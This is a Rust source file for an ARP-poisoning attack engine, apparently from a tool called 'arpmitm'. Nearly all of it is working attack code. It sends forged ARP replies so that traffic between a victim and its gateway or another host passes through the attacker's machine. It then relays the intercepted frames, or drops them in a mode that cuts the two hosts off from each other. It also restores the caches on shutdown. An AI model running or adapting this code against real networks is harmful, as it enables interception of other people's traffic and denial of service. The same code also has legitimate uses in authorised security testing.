//! Attack engine state machine and run loop

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use tracing::{debug, info, warn};

use arpmitm_core::{AttackConfig, AttackState, Error, Result};
use arpmitm_net::{Platform, RawSocket};
use arpmitm_packet::{build_arp_reply, classify_inbound, rewrite_for_relay, Verdict};

/// How often the run loop logs a statistics summary
const STATS_INTERVAL: Duration = Duration::from_secs(10);

/// Idle sleep per loop iteration, bounding CPU while staying responsive
const IDLE_SLEEP: Duration = Duration::from_millis(1);

/// How many corrective replies are sent per party on teardown
const RESTORE_SENDS: u32 = 3;

/// Engine lifecycle phase
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Phase {
    Unconfigured,
    Configured,
    Running,
    Stopped,
}

/// Cloneable handle for requesting a stop from another execution context.
///
/// `request_stop` is a single atomic store: safe to call from a signal
/// handler, idempotent, and safe after the loop has already exited.
#[derive(Debug, Clone)]
pub struct StopHandle(Arc<AtomicBool>);

impl StopHandle {
    pub fn request_stop(&self) {
        self.0.store(true, Ordering::SeqCst);
    }

    pub fn is_stop_requested(&self) -> bool {
        self.0.load(Ordering::SeqCst)
    }
}

/// One ARP poisoning attack.
///
/// Lifecycle: `Unconfigured → configure → Configured → start → Stopped`,
/// with restoration guaranteed on drop if the attack is still active.
pub struct AttackEngine {
    platform: Box<dyn Platform>,
    config: Option<AttackConfig>,
    state: AttackState,
    socket: Option<Box<dyn RawSocket>>,
    stop: Arc<AtomicBool>,
    on_stop: Option<Box<dyn FnMut() + Send>>,
    phase: Phase,
}

impl AttackEngine {
    /// Create an engine on the given platform port
    pub fn new(platform: Box<dyn Platform>) -> Self {
        Self {
            platform,
            config: None,
            state: AttackState::default(),
            socket: None,
            stop: Arc::new(AtomicBool::new(false)),
            on_stop: None,
            phase: Phase::Unconfigured,
        }
    }

    /// Current lifecycle phase
    pub fn phase(&self) -> Phase {
        self.phase
    }

    /// Resolved addresses and counters
    pub fn state(&self) -> &AttackState {
        &self.state
    }

    /// Handle for requesting a stop from a signal handler or another thread
    pub fn stop_handle(&self) -> StopHandle {
        StopHandle(Arc::clone(&self.stop))
    }

    /// Register a callback invoked once the run loop has stopped
    pub fn set_on_stop<F: FnMut() + Send + 'static>(&mut self, callback: F) {
        self.on_stop = Some(Box::new(callback));
    }

    /// Validate the configuration, select an interface, resolve both
    /// parties' MAC addresses and open the raw socket.
    pub fn configure(&mut self, config: AttackConfig) -> Result<()> {
        if config.victim_ip.is_unspecified() {
            return Err(Error::config("victim IP address is required"));
        }
        if config.arp_interval_secs == 0 {
            return Err(Error::config("ARP interval must be greater than zero"));
        }

        let interfaces = self.platform.list_interfaces()?;
        let iface = match &config.interface {
            Some(name) => interfaces
                .iter()
                .find(|i| &i.name == name)
                .ok_or_else(|| Error::InterfaceNotFound(name.clone()))?,
            None => interfaces
                .iter()
                .find(|i| {
                    i.is_up && !i.gateway.is_unspecified() && i.contains(config.victim_ip)
                })
                .ok_or_else(|| {
                    Error::config(format!(
                        "no up interface shares a network with victim {}",
                        config.victim_ip
                    ))
                })?,
        };

        let target_ip = if config.target_ip.is_unspecified() {
            iface.gateway
        } else {
            config.target_ip
        };
        if target_ip.is_unspecified() {
            return Err(Error::config(format!(
                "no target IP given and interface '{}' has no gateway",
                iface.name
            )));
        }

        info!("resolving MAC addresses on {}", iface.name);
        let victim_mac = self
            .platform
            .resolve_mac(&iface.name, config.victim_ip)
            .ok_or_else(|| Error::resolution("victim", config.victim_ip.to_string()))?;
        let target_mac = self
            .platform
            .resolve_mac(&iface.name, target_ip)
            .ok_or_else(|| Error::resolution("target", target_ip.to_string()))?;

        let socket = self.platform.open_raw_socket(&iface.name, true)?;

        self.state = AttackState {
            victim_ip: config.victim_ip,
            victim_mac,
            target_ip,
            target_mac,
            own_mac: iface.mac,
            interface: iface.name.clone(),
            ..AttackState::default()
        };
        self.socket = Some(socket);
        self.stop.store(false, Ordering::SeqCst);
        self.config = Some(config);
        self.phase = Phase::Configured;

        debug!(
            "configured: victim {} ({}) target {} ({}) via {}",
            self.state.victim_ip,
            self.state.victim_mac,
            self.state.target_ip,
            self.state.target_mac,
            self.state.interface
        );
        Ok(())
    }

    /// Run the attack loop until a stop is requested, then restore the
    /// parties' ARP caches and close the socket.
    pub fn start(&mut self) -> Result<()> {
        if self.phase != Phase::Configured {
            return Err(Error::config("attack is not configured"));
        }
        let config = self
            .config
            .clone()
            .ok_or_else(|| Error::config("attack is not configured"))?;
        if self.state.victim_ip.is_unspecified() || self.state.target_ip.is_unspecified() {
            return Err(Error::config("victim or target IP is not resolved"));
        }

        // Steady-state spoof frames: announce each party's IP as ours
        // to the other party.
        let spoof_victim = build_arp_reply(
            self.state.target_ip,
            self.state.own_mac,
            self.state.victim_ip,
            self.state.victim_mac,
        );
        let spoof_target = build_arp_reply(
            self.state.victim_ip,
            self.state.own_mac,
            self.state.target_ip,
            self.state.target_mac,
        );

        if config.drop_mode {
            info!(
                "DROPPING packets between {} <---> {}",
                self.state.victim_ip, self.state.target_ip
            );
            warn!("this severs connectivity between the two hosts");
        } else {
            info!(
                "redirecting {} ---> {}",
                self.state.victim_ip, self.state.target_ip
            );
        }
        if !config.oneway {
            info!("\tand the reverse direction");
        }

        self.state.begin_run();
        self.phase = Phase::Running;

        let arp_interval = Duration::from_secs(config.arp_interval_secs);
        let mut next_arp = Instant::now();
        let mut next_stats = Instant::now() + STATS_INTERVAL;

        while !self.stop.load(Ordering::SeqCst) {
            let now = Instant::now();

            if now >= next_arp {
                next_arp = now + arp_interval;
                self.send_spoof(&spoof_victim, "victim");
                if !config.oneway {
                    self.send_spoof(&spoof_target, "target");
                }
            }

            if now >= next_stats {
                next_stats = now + STATS_INTERVAL;
                self.log_stats(config.drop_mode);
            }

            if let Some(frame) = self.socket.as_mut().and_then(|s| s.recv()) {
                self.state.packets_received += 1;
                self.handle_frame(&frame, config.drop_mode);
            }

            thread::sleep(IDLE_SLEEP);
        }

        self.teardown(&config);
        self.phase = Phase::Stopped;

        if let Some(callback) = self.on_stop.as_mut() {
            callback();
        }
        Ok(())
    }

    /// Explicit teardown: restore ARP caches and release the socket.
    /// No-op unless an attack is active; also runs on drop.
    pub fn stop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(config) = self.config.clone() {
            self.teardown(&config);
        }
        if self.phase == Phase::Running {
            self.phase = Phase::Stopped;
        }
    }

    fn send_spoof(&mut self, frame: &[u8], party: &str) {
        let Some(socket) = self.socket.as_mut() else {
            return;
        };
        if socket.send(frame) {
            self.state.packets_sent += 1;
        } else {
            warn!("failed to send spoofed ARP reply to {party}");
        }
    }

    fn handle_frame(&mut self, frame: &[u8], drop_mode: bool) {
        let verdict = classify_inbound(
            frame,
            self.state.victim_mac,
            self.state.target_mac,
            self.state.own_mac,
            self.state.victim_ip,
        );

        let relay_dest = match verdict {
            Verdict::Ignore => return,
            Verdict::FromVictim => self.state.target_mac,
            Verdict::FromTarget => self.state.victim_mac,
        };

        if drop_mode {
            self.state.packets_dropped += 1;
            return;
        }

        let relayed = rewrite_for_relay(frame, relay_dest, self.state.own_mac);
        if let Some(socket) = self.socket.as_mut() {
            if !socket.send(&relayed) {
                warn!("failed to relay intercepted frame");
            }
        }
    }

    /// Send the correcting ARP replies (each party's real MAC announced
    /// for its own IP) several times, then close the socket. Best-effort:
    /// send failures are ignored.
    fn teardown(&mut self, config: &AttackConfig) {
        let Some(mut socket) = self.socket.take() else {
            return;
        };
        if !self.state.active {
            // Configured but never ran: nothing to correct, just release
            // the socket.
            return;
        }

        info!("restoring ARP caches");
        let restore_victim = build_arp_reply(
            self.state.target_ip,
            self.state.target_mac,
            self.state.victim_ip,
            self.state.victim_mac,
        );
        let restore_target = build_arp_reply(
            self.state.victim_ip,
            self.state.victim_mac,
            self.state.target_ip,
            self.state.target_mac,
        );

        for _ in 0..RESTORE_SENDS {
            socket.send(&restore_victim);
            if !config.oneway {
                socket.send(&restore_target);
            }
        }
        drop(socket);

        self.log_stats(config.drop_mode);
        self.state.end_run();
        info!("attack stopped");
    }

    fn log_stats(&self, drop_mode: bool) {
        if drop_mode {
            info!(
                "stats: sent {} ARP, received {}, dropped {} packets",
                self.state.packets_sent, self.state.packets_received, self.state.packets_dropped
            );
        } else {
            info!(
                "stats: sent {} ARP, received {} packets",
                self.state.packets_sent, self.state.packets_received
            );
        }
    }
}

impl Drop for AttackEngine {
    fn drop(&mut self) {
        if self.state.active {
            self.stop();
        }
    }
}
